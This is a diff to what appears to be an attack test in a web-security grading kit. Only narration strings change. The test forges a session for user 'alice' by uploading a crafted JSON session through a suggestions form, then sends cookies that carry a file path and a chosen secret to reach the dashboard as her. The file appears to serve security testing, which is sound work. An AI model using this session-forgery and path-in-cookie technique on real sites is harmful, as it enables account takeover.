@@ -2,18 +2,18 @@ import { attack } from "../kit/grader/attack.ts";
 
 export default attack(
   "sending a path as a cookie",
-  "Whoever can put a text on the disk writes himself a session, in anybody's name.",
+  "Somebody who can put a text on the disk can write their own session there, in any user's name.",
   async ({ thief, say }) => {
     say("The thief has no account. He chooses a secret, and writes a session for alice.");
     const secret = "5e55107e".repeat(8);
     const times = { createdAt: FAR_AHEAD, lastSeen: FAR_AHEAD };
     const session = { username: "alice", basket: [], ...times, mark: await sha256(secret) };
-    say("He puts it where anybody may put a text: into the box for suggestions.");
+    say("He puts it into the box for suggestions, where anybody may put a text.");
     const filed = await thief.post("/suggestions", { text: JSON.stringify(session) });
     const [path = ""] = /suggestions\/\d+/.exec(filed.response.body) ?? [];
     await thief.post("/basket", { item: "umbrella" });
     const [name = ""] = thief.cookieHeader().split("=");
-    say("The site says where it has filed his suggestion. The cookie is the way there, and his secret.");
+    say("The site says where it has stored his suggestion. His cookie contains the path to that file, and his secret.");
     for (const value of WAYS.map((way) => `${way}${path}`)) {
       const cookie = `${name}=${value}.${secret}`;
       const page = await thief.get("/dashboard", { headers: { cookie }, leaveJar: true });
